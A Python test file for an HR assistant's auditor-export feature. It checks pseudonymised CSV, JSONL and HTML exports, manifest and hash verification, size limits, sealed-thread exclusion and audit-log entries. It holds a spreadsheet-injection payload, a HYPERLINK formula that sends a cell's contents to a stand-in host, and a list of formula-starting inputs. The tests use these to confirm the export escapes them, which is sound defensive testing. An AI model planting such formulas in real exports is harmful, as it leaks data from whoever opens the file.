"""What auditors export: what the files hold, how they are checked, what is refused, and what is on record of it."""

import csv
import io
import json
import zipfile
from dataclasses import replace

import pytest

import core.log.audit
from backends.models.scripted.model import Call, Say, ScriptedModel
from backends.stores.opening import open_store
from core import Concern, Desk, Viewer, check_export, tool
from core.clock import SystemClock
from core.desk.exports import exports
from core.desk.exports.contents import Contents, dollars
from core.desk.exports.tables import CALL_COLUMNS, TURN_COLUMNS, call_table
from core.desk.filters import CallFilter, ThreadFilter
from core.errors import Corrupt, InvalidInput, NotFound, Unavailable
from core.log.pseudonyms import Pseudonyms
from core.log.records import ToolCall, record
from core.turn.deferred import report_turn
from tests.retrieval.test_searching import Library, passage
from tests.support.desks import APPROVER, QUICK, ended
from tests.support.seeding import seed
from tests.support.wrapped import WrappedStore

ASKER = Viewer("e-1042")
OTHER = Viewer("e-1077")
IN_NEED = Viewer("e-1099")
AUDITOR = Viewer("e-2001", {"auditor"}, purpose="complaint 7")
FORMULA = '=HYPERLINK("http://127.0.0.1/?"&A1)'


class SealsOne:
    """A care that seals the threads of one person."""

    async def recognise(self, text, viewer):
        return Concern(topic="illness") if viewer.id == IN_NEED.id else None


@tool(effect="read", filters=["start"], subject="employee")
def balance(start: str, employee: str | None = None) -> str:
    """The balance of an employee."""
    return f"{FORMULA} from {start}"


def script(request):
    if request.messages[-1].role == "tool":
        return [Say("You have 25 days [1].")]
    text = request.messages[-1].text
    match text.split():
        case ["balance", start, *employee]:
            return [Call("balance", {"start": start, **({"employee": employee[0]} if employee else {})})]
    return [Say(f"You said: {text}")]


def desk_of(store):
    library = Library({"balance monday e-1077": [passage("p1", "25 days."), passage("p2", "30 days.")]})
    return Desk(store, ScriptedModel(script), tools=[balance], retriever=library, options=QUICK, care=SealsOne())


@pytest.fixture
async def store(tmp_path):
    async with open_store(f"sqlite:///{tmp_path}/desk.db") as store:
        yield store


@pytest.fixture
async def desk(store):
    async with desk_of(store) as desk:
        yield desk


async def asked(desk, viewer, *questions):
    thread = (await desk.create_thread(viewer)).id
    for question in questions:
        await ended(desk, await desk.submit(viewer, thread, question), viewer)
    return thread


def files_of(export):
    with zipfile.ZipFile(io.BytesIO(export.content)) as archive:
        return {name: archive.read(name) for name in archive.namelist()}


def rows_of(export):
    (name,) = (name for name in files_of(export) if name.endswith(".csv"))
    return list(csv.DictReader(io.StringIO(files_of(export)[name].decode("utf-8-sig"), newline="")))


def lines_of(export):
    (name,) = (name for name in files_of(export) if name.endswith(".jsonl"))
    return [json.loads(line) for line in files_of(export)[name].split(b"\n")[:-1]]


async def looks(store):
    return await store.read("audit:e-2001")


async def test_a_csv_has_a_row_for_each_turn_and_begins_with_a_mark_for_excel(desk, store):
    thread = await asked(desk, ASKER, "balance monday e-1077", "Grüße")
    newest = (await desk.archive.transcript(ASKER, thread)).turns[-1].turn
    await desk.give_feedback(ASKER, newest.id, "down", "Curt", dislike="unclear")
    export = await desk.exports.export_threads(AUDITOR, ThreadFilter(), "csv")
    content = files_of(export)["threads.csv"]
    assert content.startswith(b"\xef\xbb\xbfthread,title,person,")
    assert b"\n" not in content.replace(b"\r\n", b"").replace(b'"balance: succeeded"', b"")
    first, second = rows_of(export)
    assert tuple(first) == TURN_COLUMNS
    assert (first["thread"], first["question"]) == (thread, "balance monday e-1077")
    assert first["answer"] == "You have 25 days [1]."
    assert first["person"] == await Pseudonyms(store, SystemClock()).of("e-1042")
    assert first["sources"] == "[1] Leave > Days (version 1)"
    assert first["tools"] == "balance: succeeded"
    assert (first["outcome"], second["question"]) == ("sourced", "Grüße")
    assert (first["cost_usd"], first["calls_of_unknown_cost"]) == ("0.00", "2")
    assert (first["dislike"], second["rating"], second["dislike"], second["comment"]) == ("", "down", "unclear", "Curt")
    document = files_of(await desk.exports.export_threads(AUDITOR, ThreadFilter(), "html"))["threads.html"]
    assert b"rated down \xc2\xb7 unclear \xc2\xb7 Curt" in document


async def test_a_csv_of_calls_has_a_row_for_each_call(desk, store):
    await asked(desk, ASKER, "balance monday e-1077", "balance tuesday")
    (row,) = rows_of(await desk.exports.export_calls(AUDITOR, CallFilter(arguments={"start": "monday"}), "csv"))
    assert tuple(row) == CALL_COLUMNS
    assert json.loads(row["arguments"])["start"] == "monday"
    assert row["result"] == f"'{FORMULA} from monday"
    assert (row["about"], row["about_other"]) == (await Pseudonyms(store, SystemClock()).of("e-1077"), "yes")


def test_arguments_of_an_approver_that_were_erased_are_not_replaced_by_the_planned_ones():
    call = ToolCall(
        id="c1",
        n=9,
        thread="t1",
        turn="u1",
        owner="e-1",
        model_call="m1",
        number=1,
        tool="book",
        effect="unsafe",
        status="succeeded",
        planned={"days": 30},
        arguments=None,
        digest="-",
        fence=1,
        planned_at="2026-03-02T09:00:00.000Z",
        at_n=4,
    )
    table = call_table(Contents(kind="calls", calls=[call])).decode("utf-8-sig")
    (row,) = csv.DictReader(io.StringIO(table))
    assert row["arguments"] == ""


@pytest.mark.parametrize(
    "start", ["=1+1", "+1", "-1", "@SUM(A1)", "\tx", "\rx", "\nx", ' "=1', "\uff1d1", "\uff0b1", "\uff0d1", "\uff201"]
)
async def test_a_cell_that_a_spreadsheet_would_calculate_gets_an_apostrophe(desk, start):
    thread = (await desk.create_thread(ASKER, title="Title")).id
    await ended(desk, await desk.submit(ASKER, thread, f"{start} x"), ASKER)
    (row,) = rows_of(await desk.exports.export_threads(AUDITOR, [thread], "csv"))
    assert row["question"] == f"'{start} x"
    assert row["title"] == "Title"


@pytest.mark.parametrize("parted", ["x;{}=1;2", "x\t{}+1", "x\n\n{}-1", "x\r{}@A1", 'x; {}"=1', "{}=1;{}=2"])
async def test_what_other_locales_take_for_a_cell_gets_an_apostrophe_too(desk, parted):
    thread = await asked(desk, ASKER, parted.replace("{}", "").replace('; "', ';"'))
    (row,) = rows_of(await desk.exports.export_threads(AUDITOR, [thread], "csv"))
    assert row["question"] == parted.replace("{}", "'").replace("; '", ";'")


async def test_json_lines_hold_each_record_in_the_order_of_the_log_with_pseudonyms(desk):
    thread = await asked(desk, ASKER, "balance monday", "hello")
    export = await desk.exports.export_threads(AUDITOR, [thread], "jsonl")
    steps = ["retrieval", "model_call", "tool_call", "model_call"]
    assert [line["kind"] for line in lines_of(export)] == ["thread", "turn", *steps, "turn", "model_call"]
    assert {line["owner"][:4] for line in lines_of(export)} == {"EMP-"}
    assert all(b"e-1042" not in content for content in files_of(export).values())
    (call,) = lines_of(await desk.exports.export_calls(AUDITOR, CallFilter(), "jsonl"))
    assert call in lines_of(export)


async def test_verdicts_are_exported_but_not_those_on_the_answers_to_the_auditors_own_questions(desk):
    auditing = Viewer("e-1042", {"auditor", "employee"}, purpose="complaint 7")
    thread = await asked(desk, ASKER, "balance monday")
    turn = (await desk.archive.transcript(ASKER, thread)).turns[0].turn.id
    await desk.judge(AUDITOR, turn, "wrong", cause="misread", note="=a row too low", corrected="30 days.")
    (row,) = rows_of(await desk.exports.export_threads(AUDITOR, [thread], "csv"))
    assert row["verdicts"].startswith("wrong (misread) by e-2001 at ")
    assert row["verdicts"].endswith(" | note: =a row too low | should have been: 30 days.")
    (*_, review) = lines_of(await desk.exports.export_threads(AUDITOR, [thread], "jsonl"))
    assert (review["kind"], review["id"], review["owner"][:4]) == ("review", turn, "EMP-")
    html = files_of(await desk.exports.export_threads(AUDITOR, [thread], "html"))["threads.html"]
    assert b"should have been: 30 days." in html
    for form in ("csv", "jsonl", "html"):
        (content, _) = files_of(await desk.exports.export_threads(auditing, [thread], form)).values()
        assert b"a row too low" not in content


async def test_a_manifest_says_what_the_export_holds_and_for_whom_and_why_it_was_made(desk, store):
    thread = await asked(desk, ASKER, "balance monday")
    other = await asked(desk, OTHER, "hello monday")
    export = await desk.exports.export_threads(AUDITOR, ThreadFilter(words="monday", owner="e-1042"), "html")
    manifest = json.loads(files_of(export)["manifest.json"])
    pseudonym = await Pseudonyms(store, SystemClock()).of("e-1042")
    assert manifest["query"] == {"words": "monday", "person": pseudonym}
    assert (manifest["by"], manifest["purpose"]) == ("e-2001", "complaint 7")
    assert [manifest[name] for name in ("threads", "people", "turns", "calls", "model_calls")] == [1, 1, 1, 1, 2]
    head = await store.get("thread", thread)
    assert manifest["chains"] == [{"thread": thread, "n": head.n, "hash": head.fields["hash"]}]
    assert [file["name"] for file in manifest["files"]] == ["threads.html"]
    both = (await desk.exports.export_threads(AUDITOR, [thread, other], "csv")).manifest
    assert (both.query, both.people) == ({"ids": [thread, other]}, 2)


async def test_the_same_records_are_the_same_bytes_but_for_the_time(desk, monkeypatch):
    await asked(desk, ASKER, "balance monday", "hello")
    moment = SystemClock().now()
    monkeypatch.setattr(SystemClock, "now", lambda _: moment)
    for form in ("csv", "jsonl", "html"):
        one = await desk.exports.export_threads(AUDITOR, ThreadFilter(), form)
        assert one == await desk.exports.export_threads(AUDITOR, ThreadFilter(), form)
        with zipfile.ZipFile(io.BytesIO(one.content)) as archive:
            assert {entry.date_time for entry in archive.infolist()} == {(1980, 1, 1, 0, 0, 0)}


@pytest.mark.parametrize("form", ["csv", "jsonl", "html"])
async def test_a_check_finds_nothing_in_an_export_as_it_was_made(desk, store, form):
    await asked(desk, ASKER, "balance monday")
    for export in (
        await desk.exports.export_threads(AUDITOR, ThreadFilter(), form),
        await desk.exports.export_calls(AUDITOR, CallFilter(), form),
    ):
        checked = await check_export(io.BytesIO(export.content), store)
        assert (checked.faults, checked.manifest) == ((), export.manifest)


@tool(effect="unsafe", approval="approver")
def pay(amount: int) -> str:
    """Pay."""
    return f"paid {amount}"


def paying(request):
    words = request.messages[-1].text.split() if request.messages[-1].role == "user" else []
    return [Call("pay", {"amount": int(words[1])})] if words[:1] == ["pay"] else [Say("Noted.")]


@pytest.fixture
async def branched(store):
    """A thread whose first question was asked twice and shown again as it was, and three requests to an approver.

    The first was approved, the second denied, and the third taken back.
    """
    async with Desk(store, ScriptedModel(paying), tools=[pay], options=QUICK) as desk:
        thread = (await desk.create_thread(ASKER)).id
        first = await ended(desk, await desk.submit(ASKER, thread, "One"), ASKER)
        second = await ended(desk, await desk.submit(ASKER, thread, "Two", replaces=first.id), ASKER)
        await desk.show(ASKER, first.id)
        calls = []
        for amount in (1, 2, 3):
            turn = await ended(desk, await desk.submit(ASKER, thread, f"pay {amount}"), ASKER)
            calls += (await desk.archive.turn_view(ASKER, turn.id)).calls
        reports = []
        for call, outcome in zip(calls, ("approve", "deny"), strict=False):
            await desk.decide(APPROVER, call.id, outcome, call.digest, reason=f"{outcome} it")
            reports.append(report_turn(thread, call.id)[0])
            await ended(desk, reports[-1], ASKER)
        await desk.withdraw(ASKER, calls[2].id)
        yield desk, thread, (first, second), [call.id for call in calls], reports


async def test_a_csv_says_of_each_turn_its_version_when_it_was_shown_and_what_became_of_its_requests(branched):
    desk, thread, (first, second), calls, reports = branched
    one, two, *requested, approved, denied = rows_of(await desk.exports.export_threads(AUDITOR, [thread], "csv"))
    view = await desk.archive.turn_view(AUDITOR, first.id)
    times = [[f"{seen.since} to {seen.until or 'now'}" for seen in version.seen] for version in view.versions]
    assert (one["version"], one["shown_now"], one["replaces"]) == ("1 of 2", "yes", "")
    assert (two["version"], two["shown_now"], two["replaces"]) == ("2 of 2", "no", first.id)
    assert [one["shown_at"].split("\n"), two["shown_at"].split("\n")] == times
    assert [len(seen) for seen in times] == [2, 1]
    assert [row["turn"] for row in (one, two)] == [first.id, second.id]
    said = [row["requests"] for row in requested]
    assert all("pay: " in line and "asked at 20" in line for line in said)
    assert "given by e-3001 at 20" in said[0]
    assert said[0].endswith(f"reason: approve it | carried out by call {reports[0]}-t1")
    assert said[1].startswith("pay: reported | ")
    assert said[1].endswith("reason: deny it")
    assert said[2].startswith("pay: closed (withdrawn) | ")
    assert [row["reports"] for row in (approved, denied)] == calls[:2]
    assert {row["shown_now"] for row in (*requested, approved, denied)} == {"yes"}
    assert [row["version"] for row in requested] == ["", "", ""]


async def test_a_csv_of_calls_says_why_a_request_was_closed_and_which_one_a_call_carries_out(branched):
    desk, _thread, _, calls, reports = branched
    rows = {row["call"]: row for row in rows_of(await desk.exports.export_calls(AUDITOR, CallFilter(), "csv"))}
    assert {call: rows[call]["status"] for call in calls} == dict.fromkeys(calls, "deferred")
    assert [(rows[call]["decision"], rows[call]["closed"]) for call in calls] == [
        ("given", ""),
        ("denied", ""),
        ("", "withdrawn"),
    ]
    assert rows[f"{reports[0]}-t1"]["carries_out"] == calls[0]
    assert rows[calls[0]]["expires"] > rows[calls[0]]["planned_at"]


async def test_json_lines_hold_requests_and_what_tells_the_shown_branch(branched):
    desk, thread, (first, second), calls, _ = branched
    lines = lines_of(await desk.exports.export_threads(AUDITOR, [thread], "jsonl"))
    requests = [line for line in lines if line["kind"] == "deferred_call"]
    assert [(one["call"], one["status"], one["closed"]) for one in requests] == [
        (calls[0], "reported", None),
        (calls[1], "reported", None),
        (calls[2], "closed", "withdrawn"),
    ]
    assert "e-1042" not in json.dumps(requests)
    turns = {line["id"]: line for line in lines if line["kind"] == "turn"}
    ranges = lines[0]["hidden"]
    left_out = [id for id, one in turns.items() if any(begin <= one["first_n"] <= end for begin, end in ranges)]
    assert left_out == [second.id]
    assert [version["turn"] for version in turns[first.id]["versions"]] == [first.id, second.id]


async def test_an_html_marks_versions_requests_and_reports_and_its_check_finds_nothing(branched, store):
    desk, thread, (first, _), calls, _reports = branched
    export = await desk.exports.export_threads(AUDITOR, [thread], "html")
    text = files_of(export)["threads.html"].decode()
    assert "version 1 of 2 of this question · shown 20" in text
    assert text.count("· on the branch that is shown now") == text.count("· not on the branch that is shown now") == 1
    assert f"asked in the place of turn {first.id}" in text
    assert text.count("<h4>Requests to approvers</h4>") == 3
    assert "pay: closed (withdrawn)" in text
    assert "<h3>Report of a decision 6</h3>" in text
    assert f"reports the decision on request {calls[0]}" in text
    assert (await check_export(io.BytesIO(export.content), store)).faults == ()
    assert export.manifest.turns == 7
    text = files_of(await desk.exports.export_calls(AUDITOR, CallFilter(), "html"))["calls.html"].decode()
    assert f"request {calls[0]}" in text
    assert ">withdrawn<" in text


def packed(files):
    content = io.BytesIO()
    with zipfile.ZipFile(content, "w") as archive:
        for name, text in files.items():
            archive.writestr(name, text)
    return content


async def test_a_check_finds_a_changed_byte_and_a_file_too_many_or_too_few(desk):
    await asked(desk, ASKER, "balance monday")
    export = await desk.exports.export_threads(AUDITOR, ThreadFilter(), "csv")
    files = files_of(export)
    changed = packed(files | {"threads.csv": files["threads.csv"].replace(b"25 days", b"26 days")})
    (fault,) = (await check_export(changed)).faults
    assert fault.startswith("threads.csv was changed")
    place = export.content.index(b"threads.csv") + 200  # within the compressed content
    flipped = export.content[:place] + bytes([export.content[place] ^ 1]) + export.content[place + 1 :]
    assert (await check_export(io.BytesIO(flipped))).faults == (fault,)
    (fault,) = (await check_export(packed(files | {"more.txt": b""}))).faults
    assert "more.txt" in fault
    (fault,) = (await check_export(packed({"manifest.json": files["manifest.json"]}))).faults
    assert "its manifest names manifest.json, threads.csv" in fault
    for broken in (
        io.BytesIO(b"no zip"),
        packed({"a": b""}),
        packed({"manifest.json": b"{}"}),
        packed({"manifest.json": b" " * 2**23}),
    ):
        with pytest.raises(InvalidInput, match="not an export"):
            await check_export(broken)


async def test_a_check_against_the_store_finds_a_manifest_that_was_changed_with_its_files(desk, store, tmp_path):
    thread = await asked(desk, ASKER, "hello")
    export = await desk.exports.export_threads(AUDITOR, [thread], "csv")
    files = files_of(export)
    forged = files["manifest.json"].replace(b"complaint 7", b"complaint 8")
    assert (await check_export(packed(files | {"manifest.json": forged}))).faults == ()
    (fault,) = (await check_export(packed(files | {"manifest.json": forged}), store)).faults
    assert "audit log of e-2001 does not hold this manifest" in fault
    hash = export.manifest.chains[0].hash
    forged = files["manifest.json"].replace(hash.encode(), b"0" * 64)
    faults = (await check_export(packed(files | {"manifest.json": forged}), store)).faults
    assert any(f"of thread {thread} has another hash in the store" in fault for fault in faults)
    async with open_store("memory:") as elsewhere:
        faults = (await check_export(io.BytesIO(export.content), elsewhere)).faults
    assert any(f"thread {thread} has no entry" in fault for fault in faults)


async def test_an_export_is_one_entry_with_its_owners_and_its_manifest_before_its_bytes(desk, store):
    await asked(desk, ASKER, "balance monday")
    await asked(desk, OTHER, "balance tuesday")
    for wanted, one in ((ThreadFilter(), desk.exports.export_threads), (CallFilter(), desk.exports.export_calls)):
        before = len(await looks(store))
        export = await one(AUDITOR, wanted, "jsonl")
        (entry,) = (await looks(store))[before:]
        assert (entry.shell["action"], entry.shell["object"]) == ("export", None)
        assert entry.shell["owners"] == ["e-1042", "e-1077"]
        assert entry.shell["manifest"] == exports.sha256(files_of(export)["manifest.json"])
        assert entry.payload["purpose"] == "complaint 7"
    await desk.exports.export_threads(AUDITOR, ThreadFilter(owner="e-1042"), "jsonl")
    entry = (await looks(store))[-1]
    assert (entry.shell["object"], entry.shell["owner"]) == ("person:e-1042", "e-1042")


async def test_an_export_that_cannot_be_put_on_record_returns_nothing(desk, store, monkeypatch):
    class NoAudit(WrappedStore):
        async def commit(self, stream, after, entries, records=(), *, id):
            if stream.startswith("audit:"):
                raise Unavailable("no place for an audit")
            await super().commit(stream, after, entries, records, id=id)

    monkeypatch.setattr(core.log.audit, "_PATIENCE", 0.01)
    await asked(desk, ASKER, "balance monday")
    without = exports.Exports(NoAudit(store))
    for call in (
        without.export_threads(AUDITOR, ThreadFilter(), "csv"),
        without.export_calls(AUDITOR, CallFilter(), "csv"),
        without.measure_threads(AUDITOR, ThreadFilter()),
        without.measure_calls(AUDITOR, CallFilter()),
    ):
        with pytest.raises(Unavailable, match="no place for an audit"):
            await call
    assert await looks(store) == []


class Counted(WrappedStore):
    """Counts the kinds of records that are asked for."""

    kinds = frozenset()

    async def find(self, query):
        self.kinds |= {query.kind}
        return await super().find(query)


async def test_more_than_50_threads_are_refused_unread_and_the_attempt_is_a_search_on_record(store):
    await seed(store, 51)
    counted = Counted(store)
    one = exports.Exports(counted)
    ids = [f"t-{i}" for i in range(51)]
    for call in (
        one.export_threads(AUDITOR, ThreadFilter(), "csv"),
        one.export_threads(AUDITOR, ids, "csv"),
        one.export_calls(AUDITOR, CallFilter(), "csv"),
        one.export_calls(AUDITOR, [f"q-{i}-t1" for i in range(52)], "csv"),
    ):
        before = len(await looks(store))
        with pytest.raises(InvalidInput, match=r"more than 50 threads needs a second person, .*: narrow the filter"):
            await call
        (entry,) = (await looks(store))[before:]
        assert entry.shell["action"] == "audit.search"
    assert counted.kinds.isdisjoint(("turn", "model_call", "message", "retrieval"))
    extent = await one.measure_threads(AUDITOR, ThreadFilter())
    assert extent.refusal == exports.TOO_MANY_THREADS
    assert (await one.export_threads(AUDITOR, ids[:50], "csv")).manifest.threads == 50
    fifty = ThreadFilter(metadata={}, tools=("request_leave",))
    assert (await one.measure_threads(AUDITOR, fifty)).refusal is None
    assert len(rows_of(await one.export_threads(AUDITOR, fifty, "csv"))) == 17


async def test_too_many_turns_or_calls_are_refused(desk, monkeypatch):
    thread = await asked(desk, ASKER, "balance monday", "balance tuesday")
    monkeypatch.setattr(exports, "MAX_ROWS", 1)
    for call in (
        desk.exports.export_threads(AUDITOR, [thread], "csv"),
        desk.exports.export_threads(AUDITOR, ThreadFilter(), "csv"),
        desk.exports.export_calls(AUDITOR, CallFilter(), "csv"),
    ):
        with pytest.raises(InvalidInput, match=r"at most .* turns or tool calls: narrow the filter"):
            await call


async def test_an_extent_says_how_many_threads_of_how_many_people(desk):
    await asked(desk, ASKER, "balance monday", "hello")
    await asked(desk, ASKER, "hello")
    await asked(desk, OTHER, "balance monday")
    assert await desk.exports.measure_threads(AUDITOR, ThreadFilter()) == exports.Extent(
        threads=3, people=2, rows=4, refusal=None
    )
    assert await desk.exports.measure_calls(AUDITOR, CallFilter()) == exports.Extent(
        threads=2, people=2, rows=2, refusal=None
    )


@pytest.mark.parametrize("form", ["csv", "jsonl", "html"])
async def test_sealed_threads_are_left_out(desk, store, form):
    sealed = await asked(desk, IN_NEED, "balance monday")
    open_thread = await asked(desk, ASKER, "balance monday")
    (call,) = await desk.archive.tool_calls(IN_NEED, sealed)
    for wanted in (ThreadFilter(), ThreadFilter(words="monday"), ThreadFilter(owner="e-1099")):
        export = await desk.exports.export_threads(AUDITOR, wanted, form)
        assert all(sealed.encode() not in content for content in files_of(export).values())
        assert [chain.thread for chain in export.manifest.chains] == ([] if wanted.owner else [open_thread])
    export = await desk.exports.export_calls(AUDITOR, CallFilter(), form)
    assert (export.manifest.calls, export.manifest.people) == (1, 1)
    assert all(call.id.encode() not in content for content in files_of(export).values())
    for one in (
        desk.exports.export_threads(AUDITOR, [open_thread, sealed], form),
        desk.exports.export_calls(AUDITOR, [call.id], form),
    ):
        with pytest.raises(NotFound):
            await one


async def test_a_sealed_a_missing_and_a_malformed_id_are_denied_alike_and_on_record(desk, store):
    sealed = await asked(desk, IN_NEED, "balance monday")
    (call,) = await desk.archive.tool_calls(IN_NEED, sealed)
    for one, kind, ids in (
        (desk.exports.export_threads, "thread", (sealed, "0" * 32)),
        (desk.exports.export_calls, "call", (call.id, "0" * 24)),
    ):
        for name in ids:
            with pytest.raises(NotFound, match=f"^{kind} {name} was not found$"):
                await one(AUDITOR, [name], "csv")
            entry = (await looks(store))[-1]
            assert (entry.kind, entry.shell["action"], entry.shell["object"]) == (
                "audit.denied",
                "thread.read",
                f"{kind}:{name}",
            )
        with pytest.raises(NotFound):
            await one(AUDITOR, ["not an id"], "csv")
        assert (await looks(store))[-1].shell["object"] == f"{kind}:malformed"


@pytest.mark.parametrize(
    "viewer",
    [Viewer("e-2001", {"auditor", "handler"}, purpose="x"), Viewer(IN_NEED.id, {"auditor", "employee"}, purpose="x")],
)
async def test_a_sealed_thread_is_not_exported_by_an_auditor_who_may_read_it(desk, viewer):
    sealed = await asked(desk, IN_NEED, "balance monday")
    assert (await desk.archive.thread(viewer, sealed)).sealed
    (call,) = await desk.archive.tool_calls(viewer, sealed)
    for one, name in ((desk.exports.export_threads, sealed), (desk.exports.export_calls, call.id)):
        with pytest.raises(NotFound, match=sealed):
            await one(viewer, [name], "csv")


async def test_ids_that_a_denied_export_shows_to_exist_are_on_record(desk, store):
    thread = await asked(desk, ASKER, "balance monday")
    (call,) = await desk.archive.tool_calls(ASKER, thread)
    for one, name in ((desk.exports.export_threads, thread), (desk.exports.export_calls, call.id)):
        with pytest.raises(NotFound, match="missing"):
            await one(AUDITOR, [name, "missing", "typed \ud800"], "csv")
        search = next(entry for entry in (await looks(store))[::-1] if entry.kind == "audit.looked")
        assert (search.shell["action"], search.shell["filters"]) == ("audit.search", {"ids": [name]})


async def test_a_thread_that_is_sealed_by_an_entry_past_its_records_is_left_out(desk, store):
    thread = await asked(desk, ASKER, "balance monday")
    old = await store.get("thread", thread)

    class Lagging(WrappedStore):
        """The records are as before the seal; the log is not."""

        async def get(self, kind, id):
            return old if (kind, id) == ("thread", thread) else await super().get(kind, id)

        async def find(self, query):
            page = await super().find(query)
            lagging = [old if (one.kind, one.id) == ("thread", thread) else one for one in page.records]
            return type(page)(records=lagging, cursor=page.cursor)

    class SealsAll:
        async def recognise(self, text, viewer):
            return Concern(topic="illness")

    async with Desk(store, ScriptedModel(script), tools=[balance], options=QUICK, care=SealsAll()) as other:
        await ended(other, await other.submit(ASKER, thread, "hello"), ASKER)
    one = exports.Exports(Lagging(store))
    assert (await one.measure_calls(AUDITOR, CallFilter(tools=("balance",)))).rows <= 1
    assert (await one.export_threads(AUDITOR, ThreadFilter(), "csv")).manifest.threads == 0
    assert (await one.export_calls(AUDITOR, CallFilter(), "csv")).manifest.calls == 0
    # The auditor named no thread, so a denial would tell which one is sealed.
    assert {entry.kind for entry in await looks(store)} == {"audit.looked"}


@pytest.mark.parametrize("kind", ["threads", "calls"])
async def test_a_turn_that_seals_its_thread_while_it_is_exported_is_left_out(desk, store, kind):
    thread = await asked(desk, ASKER, "balance monday")

    class SealsAll:
        async def recognise(self, text, viewer):
            return Concern(topic="illness")

    class Meanwhile(WrappedStore):
        """Before the content is read, the employee asks a question that seals the thread."""

        asked = False

        async def find(self, query):
            if query.where.get("thread") == thread and not self.asked:
                self.asked = True
                model = ScriptedModel(script)
                async with Desk(store, model, tools=[balance], options=QUICK, care=SealsAll()) as other:
                    await ended(other, await other.submit(ASKER, thread, "balance tuesday"), ASKER)
            return await super().find(query)

    held = Meanwhile(store)
    if kind == "threads":
        export = await exports.Exports(held).export_threads(AUDITOR, [thread], "jsonl")
    else:
        (call,) = await desk.archive.tool_calls(ASKER, thread)
        export = await exports.Exports(held).export_calls(AUDITOR, CallFilter(tools=("balance",)), "jsonl")
        assert [line["id"] for line in lines_of(export)] == [call.id]
    assert held.asked
    assert b"tuesday" not in files_of(export)[f"{kind}.jsonl"]


async def test_an_approver_who_audits_cannot_export_a_waiting_call_of_a_sealed_thread(store):
    @tool(effect="unsafe", approval="approver")
    def pay() -> None:
        """Pay."""

    both = Viewer("e-2001", {"auditor", "approver"}, purpose="complaint 7")
    model = ScriptedModel([[Call("pay", {})]])
    async with Desk(store, model, tools=[pay], options=QUICK, care=SealsOne()) as desk:
        thread = await asked(desk, IN_NEED, "Pay")
        (call,) = await desk.archive.tool_calls(IN_NEED, thread)
        assert (await desk.archive.call(both, call.id)).id == call.id
        with pytest.raises(NotFound, match=f"call {call.id} was not found"):
            await desk.exports.export_calls(both, [call.id], "csv")


@pytest.mark.parametrize(
    ("nano_usd", "text"),
    [(None, ""), (0, "0.00"), (1, "0.000000001"), (12_300_000_000, "12.30")],
)
def test_an_amount_is_exact_and_unknown_is_not_nothing(nano_usd, text):
    assert dollars(nano_usd) == text


async def test_a_thread_that_cannot_be_read_whole_is_not_exported_and_the_error_names_it(desk, store):
    thread = await asked(desk, ASKER, "balance monday")
    head = await store.get("thread", thread)

    class Broken(WrappedStore):
        """Holds a turn that does not fit, as after a hand in the database."""

        async def find(self, query):
            page = await super().find(query)
            records = [replace(one, fields={}) if one.kind == "turn" else one for one in page.records]
            return type(page)(records=records, cursor=page.cursor)

    class Lost(WrappedStore):
        """An entry past the head cannot be read."""

        async def read(self, stream, after=0, limit=500):
            if (stream, after) == (f"thread:{thread}", head.n):
                raise Corrupt(stream, head.n + 1, "is cut off")
            return await super().read(stream, after, limit)

    with pytest.raises(Corrupt, match="record turn:"):
        await exports.Exports(Broken(store)).export_threads(AUDITOR, [thread], "csv")
    with pytest.raises(Corrupt, match=f"thread:{thread} entry {head.n + 1}: is cut off"):
        await exports.Exports(Lost(store)).export_threads(AUDITOR, ThreadFilter(), "csv")
    assert await looks(store) == []


async def test_an_export_has_one_of_the_formats(desk):
    with pytest.raises(InvalidInput, match="'csv' or 'jsonl' or 'html'"):
        await desk.exports.export_threads(AUDITOR, ThreadFilter(), "xlsx")


def records_of(export):
    """The lines of an own export, which is the file alone."""
    return [json.loads(line) for line in export.content.splitlines()]


async def test_an_own_export_is_all_that_is_on_record_of_the_viewers_threads_under_their_own_name(desk, store):
    plain = await asked(desk, ASKER, "balance monday e-1077", "Grüße")
    await asked(desk, OTHER, "Not mine")
    newest = (await desk.archive.thread(ASKER, plain)).last
    again = await ended(desk, await desk.submit(ASKER, plain, "Grüße Gott", replaces=newest), ASKER)
    export = await desk.exports.export_own(ASKER, None, "jsonl")
    lines = records_of(export)
    kept = await desk.archive.thread(ASKER, plain)
    assert lines[0] == kept.model_dump(mode="json")
    turns = [line for line in lines if line["kind"] == "turn"]
    assert [turn["question"] for turn in turns] == ["balance monday e-1077", "Grüße", "Grüße Gott"]
    assert turns[2]["id"] == again.id
    by_kind = {kind: [line for line in lines if line["kind"] == kind] for kind in ("tool_call", "model_call")}
    for kind, read in (("tool_call", desk.archive.tool_calls), ("model_call", desk.archive.model_calls)):
        assert by_kind[kind] == [one.model_dump(mode="json") for one in await read(ASKER, plain)] != []
    assert {line["owner"] for line in lines} == {ASKER.id}
    assert "Not mine" not in export.content.decode()
    html = (await desk.exports.export_own(ASKER, [plain], "html")).content.decode()
    for message in await desk.archive.messages(ASKER, plain):
        assert message.text in html
    assert "version 2 of 2 of this question" in html
    assert "not on the branch that is shown now" in html
    assert '<td dir="auto">Purpose</td>' not in html
    assert await store.read(f"audit:{ASKER.id}") == []


async def test_an_own_export_holds_sealed_threads_and_no_verdicts_nor_the_id_of_an_auditor(desk, store):
    sealed = await asked(desk, IN_NEED, "I need help")
    assert (await desk.archive.thread(IN_NEED, sealed)).sealed
    thread = await asked(desk, ASKER, "balance monday")
    turn = (await desk.archive.thread(ASKER, thread)).last
    await desk.judge(AUDITOR, turn, "wrong", cause="misread", note="an auditor's note")
    (call,) = await desk.archive.tool_calls(ASKER, thread)
    stated = {"happened": True, "by": AUDITOR.id, "at": call.planned_at, "evidence": "the letter"}
    await store.commit(f"thread:{thread}", 0, [], [record(call.model_copy(update={"resolution": stated}))], id="r" * 32)
    assert "I need help" in (await desk.exports.export_own(IN_NEED, None, "html")).content.decode()
    for file_format in ("jsonl", "html", "csv"):
        text = (await desk.exports.export_own(ASKER, None, file_format)).content.decode()
        assert "balance monday" in text
        assert "an auditor's note" not in text
        assert AUDITOR.id not in text
    (line,) = [line for line in records_of(await desk.exports.export_own(ASKER, None, "jsonl")) if "resolution" in line]
    assert (line["resolution"]["happened"], line["resolution"]["evidence"]) == (True, "the letter")


@pytest.mark.parametrize("viewer", [ASKER, Viewer("e-1042", {"employee", "auditor"}, purpose="complaint 7")])
async def test_anothers_thread_is_not_found_for_an_own_export_whatever_the_role(desk, store, viewer):
    mine, theirs = await asked(desk, viewer, "Mine"), await asked(desk, OTHER, "Theirs")
    for wanted in ([theirs], [mine, theirs], ["0" * 32], ["not an id"]):
        with pytest.raises(NotFound):
            await desk.exports.export_own(viewer, wanted, "jsonl")
